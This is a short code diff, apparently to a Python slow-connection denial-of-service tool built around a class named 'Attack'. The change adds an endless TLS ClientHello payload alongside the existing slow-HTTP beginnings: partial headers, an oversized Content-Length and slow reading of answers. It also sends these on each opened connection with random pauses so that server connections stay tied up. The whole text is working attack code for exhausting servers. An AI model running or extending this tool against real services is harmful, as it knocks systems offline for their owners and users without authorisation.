@@ -21,6 +21,8 @@ BEGINNINGS = {
     "body": HEAD + b"Content-Length: 1000000\r\n\r\n",
     "answer": LARGE,
 }
+# A ClientHello that goes on and on; only where TLS is spoken.
+HANDSHAKE = {"handshake": b"\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb\x03\x03"}
 # How long one waits until it sends a byte more, or takes some more bytes.
 SHORTEST_PAUSE, LONGEST_PAUSE = 1.0, 3.0
 TAKEN_BYTES = 512
@@ -54,7 +56,7 @@ class Attack:
             self.open += 1
             self.seen["connected"] += 1
             try:
-                await loop.sock_sendall(line, BEGINNINGS[kind])
+                await loop.sock_sendall(line, (BEGINNINGS | HANDSHAKE)[kind])
                 while True:
                     pause = self.random.uniform(SHORTEST_PAUSE, LONGEST_PAUSE)
                     if kind == "answer":
